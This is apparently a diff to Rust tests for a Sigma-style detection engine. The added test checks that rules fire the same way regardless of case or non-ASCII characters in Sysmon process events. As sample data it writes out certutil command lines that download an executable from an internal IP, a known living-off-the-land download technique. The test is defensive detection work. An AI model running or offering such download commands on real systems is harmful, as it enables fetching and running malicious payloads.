@@ -477,6 +477,37 @@ fn dispatch_and_prefilter_find_what_evaluating_everything_finds() {
         total += a.len();
     }
     assert!(total >= 3, "the sample events fire some rules ({total})");
+    // Case never matters, whether the value is ASCII (compared folding case in place) or
+    // not (lower-cased first): the same event in capitals, or with a non-ASCII
+    // character in a part no rule reads, fires the same rules.
+    let sysmon = |image: &str, cmd: &str| {
+        let mut e = proc_event(image, cmd);
+        e.set(
+            "winlog.channel",
+            Value::from("Microsoft-Windows-Sysmon/Operational"),
+        )
+        .unwrap();
+        e.set("winlog.event_id", Value::from(1)).unwrap();
+        e
+    };
+    let lower = sysmon(
+        "c:\\windows\\system32\\certutil.exe",
+        "certutil -urlcache -f http://10.0.0.1/a.exe a.exe",
+    );
+    let upper = sysmon(
+        "C:\\WINDOWS\\SYSTEM32\\CERTUTIL.EXE",
+        "CERTUTIL -URLCACHE -F HTTP://10.0.0.1/A.EXE A.EXE",
+    );
+    let accented = sysmon(
+        "C:\\Windows\\System32\\CertUtil.exe",
+        "CertUtil -URLCache -f http://10.0.0.1/Jürgen.exe Jürgen.exe",
+    );
+    let expected = hits(&slow, &lower);
+    assert!(!expected.is_empty());
+    for e in [&lower, &upper, &accented] {
+        assert_eq!(hits(&fast, e), expected, "{e:?}");
+        assert_eq!(hits(&slow, e), expected, "{e:?}");
+    }
 }
 
 /// Five port-22 connections from one source within ten minutes (the base rule `conn`
@@ -497,7 +528,10 @@ fn five_set(corr: &str, extra: &str) -> Arc<RuleSet> {
 fn feed(eng: &mut SigmaEngine, times: std::ops::Range<i64>) -> Vec<Signal> {
     let mut out = Vec::new();
     for t in times {
-        eng.observe(&fw(t * 10, "energy", "203.0.113.9", "10.0.0.1", 22), &mut out);
+        eng.observe(
+            &fw(t * 10, "energy", "203.0.113.9", "10.0.0.1", 22),
+            &mut out,
+        );
     }
     out
 }
